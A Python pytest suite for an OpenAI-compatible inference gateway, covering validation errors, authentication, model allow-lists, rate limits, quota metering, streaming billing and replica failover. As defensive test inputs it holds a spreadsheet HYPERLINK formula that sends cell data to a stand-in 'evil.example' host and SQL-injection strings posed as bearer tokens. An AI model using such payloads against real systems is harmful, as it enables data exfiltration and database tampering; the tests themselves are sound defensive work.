"""The gateway app over fakes and the in-process mock engine: errors, auth, metering, routing."""

from __future__ import annotations

import asyncio
import dataclasses
import json
from typing import Any

import httpx
import pytest
import structlog

from gateway_support import (
    CHAT,
    EMBED,
    FakeKeys,
    MemorySink,
    chat_body,
    client_for,
    make_gateway,
    make_key,
    replica,
)
from suanwang.domain.limits import KeyLimits, Limits, TenantLimits
from suanwang.domain.tenancy import Scope
from suanwang.domain.usage import UNKNOWN_MODEL, Outcome
from suanwang.gateway.breaker import THRESHOLD, BreakerState


def run(coro: Any) -> Any:
    return asyncio.run(coro)


def setup(replicas: list[Any] | None = None, **kw: Any) -> tuple[Any, FakeKeys, MemorySink, str]:
    keys, sink = FakeKeys(), MemorySink()
    key = keys.add("acme")
    app = make_gateway(
        replicas if replicas is not None else [replica("r1"), replica("e1", EMBED)],
        keys=keys,
        sink=sink,
        **kw,
    )
    return app, keys, sink, key


async def post(app: Any, key: str | None, path: str, body: Any, **headers: str) -> httpx.Response:
    h = dict(headers)
    if key:
        h["authorization"] = f"Bearer {key}"
    async with client_for(app) as client:
        if isinstance(body, bytes):
            return await client.post(path, content=body, headers=h)
        return await client.post(path, json=body, headers=h)


def raw_body(model: str, fields: str) -> bytes:
    """A body written by hand: json.dumps cannot write a lone surrogate or a huge number."""
    return f'{{"model": "{model}", {fields}}}'.encode()


def raw_chat(content: str, extra: str = '"max_tokens": 8') -> bytes:
    messages = f'"messages": [{{"role": "user", "content": {content}}}]'
    return raw_body(CHAT, f"{messages}, {extra}")


def nested(depth: int) -> bytes:
    """A chat body whose ``tools`` nest ``depth`` arrays deep."""
    return raw_chat('"x"', '"tools": ' + "[" * depth + "]" * depth)


def error_of(response: httpx.Response) -> dict[str, Any]:
    body = response.json()
    assert set(body) == {"error"}
    assert set(body["error"]) == {"message", "type", "param", "code"}
    return dict(body["error"])


def test_chat_is_answered_and_metered_once() -> None:
    app, _, sink, key = setup()
    response = run(post(app, key, "/v1/chat/completions", chat_body()))
    assert response.status_code == 200
    usage = response.json()["usage"]
    (row,) = sink.rows.values()
    assert (row.prompt_tokens, row.completion_tokens) == (
        usage["prompt_tokens"],
        usage["completion_tokens"],
    )
    assert row.outcome is Outcome.OK
    assert row.tenant == "acme"
    assert row.replica == "r1"
    assert response.headers["x-request-id"].startswith("req_")


def test_client_request_id_is_echoed_but_never_the_ledger_id() -> None:
    app, _, sink, key = setup()
    for _ in range(2):
        response = run(
            post(app, key, "/v1/chat/completions", chat_body(), **{"x-request-id": "abc-1"})
        )
        assert response.headers["x-request-id"] == "abc-1"
    assert len(sink.rows) == 2  # a reused client id cannot hide a second request from billing


@pytest.mark.parametrize(
    ("path", "body", "status", "param"),
    [
        ("/v1/chat/completions", {"model": CHAT}, 400, "messages"),
        ("/v1/chat/completions", {"messages": [{"role": "user", "content": "x"}]}, 400, "model"),
        ("/v1/chat/completions", b"{not json", 400, None),
        ("/v1/chat/completions", [1, 2], 400, None),
        ("/v1/chat/completions", chat_body(model="no-such-model"), 404, "model"),
        ("/v1/chat/completions", chat_body(model=EMBED), 400, "model"),
        ("/v1/embeddings", {"model": CHAT, "input": "x"}, 400, "model"),
        ("/v1/embeddings", {"model": EMBED}, 400, "input"),
        ("/v1/chat/completions", chat_body(max_tokens=0), 400, "max_tokens"),
        ("/v1/chat/completions", chat_body(max_tokens=10**6), 400, "max_tokens"),
        ("/v1/chat/completions", chat_body(temperature="hot"), 400, "temperature"),
        ("/v1/chat/completions", chat_body(stream="yes"), 400, "stream"),
        ("/v1/completions", {"model": CHAT}, 400, "prompt"),
        ("/v1/chat/completions", nested(1000), 400, None),
        ("/v1/chat/completions", nested(100_000), 400, None),
        ("/v1/chat/completions", nested(65), 400, None),
        ("/v1/chat/completions", raw_chat(r'"\ud800"'), 400, "messages[0].content"),
        ("/v1/chat/completions", raw_chat(r'"ok \uDFFF\ud83d"'), 400, "messages[0].content"),
        ("/v1/embeddings", raw_body(EMBED, r'"input": ["x", "\udc00"]'), 400, "input[1]"),
        ("/v1/chat/completions", raw_chat('"x"', '"max_tokens": ' + "9" * 5000), 400, "max_tokens"),
        ("/v1/chat/completions", raw_chat('"x"', '"n": -' + "1" * 4400), 400, "n"),
    ],
)
def test_bad_requests_get_openai_errors_and_one_rejected_record(
    path: str, body: Any, status: int, param: str | None
) -> None:
    app, _, sink, key = setup()
    response = run(post(app, key, path, body))
    assert response.status_code == status
    error = error_of(response)
    if param:
        assert error["param"] == param
    (row,) = sink.rows.values()
    assert row.outcome is Outcome.REJECTED
    assert row.prompt_tokens == row.completion_tokens == 0


FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"invoice")'


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/v1/chat/completions", chat_body()),
        ("/v1/completions", {"prompt": "hi"}),
        ("/v1/embeddings", {"input": "hi"}),
    ],
)
def test_a_model_outside_the_catalogue_is_stored_as_unknown_and_never_logged(
    path: str, body: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    """A formula or a pasted key typed as the model reaches neither the ledger nor the logs."""
    app, _, sink, key = setup()
    pasted = make_key()
    with structlog.testing.capture_logs() as events:
        for model in (FORMULA, pasted, pasted.removeprefix("sw_")):
            assert run(post(app, key, path, {**body, "model": model})).status_code == 404
    assert [row.model for row in sink.rows.values()] == [UNKNOWN_MODEL] * 3
    stored = repr(list(sink.rows.values())) + repr(events) + caplog.text
    assert "HYPERLINK" not in stored
    assert pasted[3:20] not in stored


@pytest.mark.parametrize(
    "header",
    [
        None,
        b"Bearer ' OR '1'='1",
        b"Bearer sw_abcdefgh_' OR 1=1; DROP TABLE api_keys; --",
        b"Basic dXNlcjpwYXNz",
        b"Bearer " + b"A" * 9000,
        b"Bearer sw_\xff\xfe\xfd",
        b"Bearer sw_AAAAAAAA_" + b"x" * 43,
    ],
)
def test_bad_authorization_is_401_without_a_record(header: bytes | None) -> None:
    app, _keys, sink, _ = setup()

    async def go() -> httpx.Response:
        headers = [] if header is None else [(b"authorization", header)]
        async with client_for(app) as client:
            return await client.post("/v1/chat/completions", json=chat_body(), headers=headers)

    response = run(go())
    assert response.status_code == 401
    assert error_of(response)["type"] == "authentication_error"
    assert not sink.rows


def test_unknown_route_and_method_are_openai_errors() -> None:
    app, _, _, key = setup()

    async def go() -> tuple[httpx.Response, httpx.Response]:
        async with client_for(app) as client:
            a = await client.get("/v2/nothing")
            b = await client.get("/v1/chat/completions", headers={"authorization": f"Bearer {key}"})
            return a, b

    missing, wrong_method = run(go())
    assert missing.status_code == 404
    assert error_of(missing)["code"] == "unknown_url"
    assert wrong_method.status_code == 405
    error_of(wrong_method)


def test_models_list_shows_public_and_own_deployments_only() -> None:
    app, _keys, _, key = setup([replica("r1"), replica("p1", "glm-4-9b-chat", owner="other")])

    async def go() -> httpx.Response:
        async with client_for(app) as client:
            return await client.get("/v1/models", headers={"authorization": f"Bearer {key}"})

    ids = [m["id"] for m in run(go()).json()["data"]]
    assert ids == [CHAT]
    response = run(post(app, key, "/v1/chat/completions", chat_body(model="glm-4-9b-chat")))
    assert response.status_code == 404  # another tenant's deployment: as if it did not exist


def test_models_list_shows_only_what_each_key_may_call() -> None:
    """Two keys of one tenant with different allow-lists each see only their models; a
    model outside the list is 404 like a missing one (and 403 when called)."""
    app, keys, _, everything = setup([replica("r1"), replica("e1", EMBED), replica("g1", "bge-m3")])
    chat_only, embed_only = keys.add("acme"), keys.add("acme")
    allow = {"key-1": (CHAT,), "key-2": (EMBED, "no-such-model")}
    app.gw.limits_for = lambda _t, key_id: Limits(key=KeyLimits(models=allow.get(key_id)))

    async def get(key: str, path: str) -> httpx.Response:
        async with client_for(app) as client:
            return await client.get(path, headers={"authorization": f"Bearer {key}"})

    async def listed(key: str) -> list[str]:
        responses = await asyncio.gather(*(get(key, "/v1/models") for _ in range(8)))
        ids = {tuple(m["id"] for m in r.json()["data"]) for r in responses}
        assert len(ids) == 1
        return list(ids.pop())

    assert run(listed(everything)) == sorted([CHAT, EMBED, "bge-m3"])
    assert run(listed(chat_only)) == [CHAT]
    assert run(listed(embed_only)) == [EMBED]
    assert run(get(chat_only, f"/v1/models/{CHAT}")).json()["id"] == CHAT
    hidden = run(get(chat_only, f"/v1/models/{EMBED}"))
    missing = run(get(chat_only, "/v1/models/no-such-model"))
    assert hidden.status_code == missing.status_code == 404
    assert error_of(hidden)["code"] == error_of(missing)["code"] == "model_not_found"
    assert run(get(embed_only, f"/v1/models/{CHAT}")).status_code == 404


def test_a_deployed_model_whose_replicas_are_starting_is_503_not_404() -> None:
    starting = dataclasses.replace(replica("s1", "glm-4-9b-chat"), ready=False)
    theirs = dataclasses.replace(replica("s2", "bge-m3", owner="other"), ready=False)
    app, _keys, _, key = setup([replica("r1"), starting, theirs])
    response = run(post(app, key, "/v1/chat/completions", chat_body(model="glm-4-9b-chat")))
    assert response.status_code == 503
    assert response.headers["retry-after"] == "5"
    assert error_of(response)["code"] == "model_not_ready"
    hidden = run(post(app, key, "/v1/embeddings", {"model": "bge-m3", "input": "x"}))
    assert hidden.status_code == 404  # another tenant's starting replica stays invisible


def test_operator_and_read_only_keys_are_refused() -> None:
    app, keys, sink, _ = setup()
    operator = keys.add(None, Scope.OPERATOR)
    reader = keys.add("acme", Scope.READ_ONLY)
    assert run(post(app, operator, "/v1/chat/completions", chat_body())).status_code == 403
    assert run(post(app, reader, "/v1/chat/completions", chat_body())).status_code == 403
    assert len(sink.rows) == 1  # the read-only key belongs to a tenant: metered as rejected


def test_key_allow_list() -> None:
    app, _, _, key = setup(limits=Limits(key=KeyLimits(models=(EMBED,))))
    response = run(post(app, key, "/v1/chat/completions", chat_body()))
    assert response.status_code == 403
    assert error_of(response)["code"] == "model_not_allowed"
    assert (
        run(post(app, key, "/v1/embeddings", {"model": EMBED, "input": ["a", "b"]})).status_code
        == 200
    )


def test_rate_limit_is_429_with_retry_after() -> None:
    app, _, _, key = setup(limits=Limits(key=KeyLimits(rpm=2)))
    codes = [run(post(app, key, "/v1/chat/completions", chat_body())) for _ in range(3)]
    assert [r.status_code for r in codes] == [200, 200, 429]
    assert 1 <= int(codes[2].headers["retry-after"]) <= 60
    assert error_of(codes[2])["code"] == "rate_limit_exceeded"


def test_quota_is_429_insufficient_quota_and_never_overshoots() -> None:
    app, _, sink, key = setup(limits=Limits(tenant=TenantLimits(token_quota=150)))
    statuses = [
        run(post(app, key, "/v1/chat/completions", chat_body(max_tokens=20))).status_code
        for _ in range(20)
    ]
    assert 200 in statuses
    assert 429 in statuses
    used = sum(r.prompt_tokens + r.completion_tokens for r in sink.rows.values())
    assert used <= 150


def chunks_of(text: str) -> list[dict[str, Any]]:
    events = [line[6:] for line in text.split("\n") if line.startswith("data: ")]
    assert events[-1] == "[DONE]"
    return [json.loads(e) for e in events[:-1]]


@pytest.mark.parametrize(("asked", "mode"), [(True, "normal"), (False, "normal"), (True, "none")])
def test_stream_usage_only_when_asked_and_always_billed(asked: bool, mode: str) -> None:
    app, _, sink, key = setup()
    body = chat_body(stream=True, max_tokens=50, mock={"chunks": 7, "usage": mode})
    if asked:
        body["stream_options"] = {"include_usage": True}
    response = run(post(app, key, "/v1/chat/completions", body))
    assert response.status_code == 200
    chunks = chunks_of(response.text)
    usage_chunks = [c for c in chunks if c.get("usage")]
    (row,) = sink.rows.values()
    assert row.completion_tokens == 7
    assert row.streamed
    if asked:
        (last,) = usage_chunks
        assert last["usage"]["completion_tokens"] == 7
        assert last["usage"]["prompt_tokens"] == row.prompt_tokens
    else:
        assert not usage_chunks


@pytest.mark.parametrize("mode", ["zero", "negative", "huge"])
def test_implausible_upstream_usage_is_not_trusted(mode: str) -> None:
    app, _, sink, key = setup()
    for stream in (True, False):
        body = chat_body(stream=stream, max_tokens=40, mock={"chunks": 5, "usage": mode})
        assert run(post(app, key, "/v1/chat/completions", body)).status_code == 200
    for row in sink.rows.values():
        assert row.prompt_tokens > 0
        assert 0 < row.completion_tokens <= 40


def test_failover_to_a_healthy_replica_and_ejection() -> None:
    bad = load_failing_transport()
    good = httpx.ASGITransport(app=__import__("gateway_support").load_mock().MockEngine())
    app, _, sink, key = setup(
        [replica("bad", base="bad://x"), replica("good", base="good://y")],
        transports={"bad": bad, "good": good},
    )
    for i in range(6):
        body = chat_body(user=f"user-{i}")
        assert run(post(app, key, "/v1/chat/completions", body)).status_code == 200
    assert {r.replica for r in sink.rows.values()} == {"good"}
    assert bad.calls == THRESHOLD  # ejected (breaker open) after THRESHOLD failures in a row
    assert app.gw.router.state("bad") is BreakerState.OPEN


class _Failing(httpx.AsyncBaseTransport):
    def __init__(self) -> None:
        self.calls = 0

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        self.calls += 1
        raise httpx.ConnectError("refused", request=request)


def load_failing_transport() -> _Failing:
    return _Failing()


def test_all_replicas_down_is_503_and_metered() -> None:
    app, _, sink, key = setup([replica("bad", base="bad://x")], transports={"bad": _Failing()})
    response = run(post(app, key, "/v1/chat/completions", chat_body()))
    assert response.status_code == 503
    assert error_of(response)["code"] == "no_replica"
    (row,) = sink.rows.values()
    assert row.status == 503


def test_engine_5xx_is_retried_elsewhere() -> None:
    mock = __import__("gateway_support").load_mock()
    app, _, sink, key = setup(
        [replica("a", base="a://x"), replica("b", base="b://y")],
        transports={
            "a": httpx.ASGITransport(app=mock.MockEngine(fail_status=500)),
            "b": httpx.ASGITransport(app=mock.MockEngine()),
        },
    )
    for i in range(4):
        assert (
            run(post(app, key, "/v1/chat/completions", chat_body(user=str(i)))).status_code == 200
        )
    assert {r.replica for r in sink.rows.values()} == {"b"}


def test_credentials_refused_by_every_replica_is_502_upstream_auth() -> None:
    """An upstream answering 401/403 (an external endpoint's key revoked) is the platform's
    fault, not the caller's, and not "retry shortly": 502 upstream_auth, billed 0, 8 at once."""
    mock = __import__("gateway_support").load_mock()
    app, _, sink, key = setup(
        [replica("a", base="a://x"), replica("b", base="b://y")],
        transports={
            "a": httpx.ASGITransport(app=mock.MockEngine(fail_status=401)),
            "b": httpx.ASGITransport(app=mock.MockEngine(fail_status=403)),
        },
    )

    async def eight() -> list[httpx.Response]:
        calls = [post(app, key, "/v1/chat/completions", chat_body(user=str(i))) for i in range(8)]
        return list(await asyncio.gather(*calls))

    for response in run(eight()):
        assert response.status_code == 502
        assert error_of(response)["code"] == "upstream_auth"
    assert len(sink.rows) == 8
    for row in sink.rows.values():
        assert (row.status, row.prompt_tokens, row.completion_tokens) == (502, 0, 0)


def test_embeddings_and_completions() -> None:
    app, _, sink, key = setup()
    emb = run(post(app, key, "/v1/embeddings", {"model": EMBED, "input": ["a b", "c"]}))
    assert emb.status_code == 200
    assert len(emb.json()["data"]) == 2
    comp = run(
        post(app, key, "/v1/completions", {"model": CHAT, "prompt": "once", "max_tokens": 4})
    )
    assert comp.status_code == 200
    assert sorted(r.endpoint for r in sink.rows.values()) == ["completions", "embeddings"]


def test_simulated_replicas_are_served_by_the_simulated_engine() -> None:
    from suanwang.engines.simulated import create_app
    from suanwang.services.catalogue import default_catalogue
    from suanwang.services.models import default_models

    engine = create_app(default_models(), default_catalogue(), pace=0.0)
    app, _, sink, key = setup(
        [replica("sim-r1", base="sim://sim-r1")],
        transports={"sim": httpx.ASGITransport(app=engine)},
    )
    plain = run(post(app, key, "/v1/chat/completions", chat_body(max_tokens=6)))
    assert plain.status_code == 200
    streamed = run(
        post(
            app,
            key,
            "/v1/chat/completions",
            chat_body(stream=True, max_tokens=6, stream_options={"include_usage": True}),
        )
    )
    assert streamed.status_code == 200
    usage = [c for c in chunks_of(streamed.text) if c.get("usage")][-1]["usage"]
    rows = sorted(sink.rows.values(), key=lambda r: r.started_at)
    assert rows[1].completion_tokens == usage["completion_tokens"] > 0
    assert {r.replica for r in rows} == {"sim-r1"}


@pytest.mark.parametrize(
    "body",
    [
        raw_chat(r'"smile \ud83d\ude00"'),  # an escaped surrogate pair is text
        raw_chat(
            '"x"',
            '"max_tokens": 8, "tools": [{"type": "function", "function": {"name": "f", '
            '"parameters": {"x": ' + "[" * 55 + "]" * 55 + "}}}]",
        ),
        raw_chat('"x"', '"max_tokens": 8, "user": ' + r'"\\ud800"'),  # a backslash: text
    ],
)
def test_unusual_but_valid_bodies_are_served(body: bytes) -> None:
    app, _, sink, key = setup()
    response = run(post(app, key, "/v1/chat/completions", body))
    assert response.status_code == 200, response.text
    (row,) = sink.rows.values()
    assert row.outcome is Outcome.OK
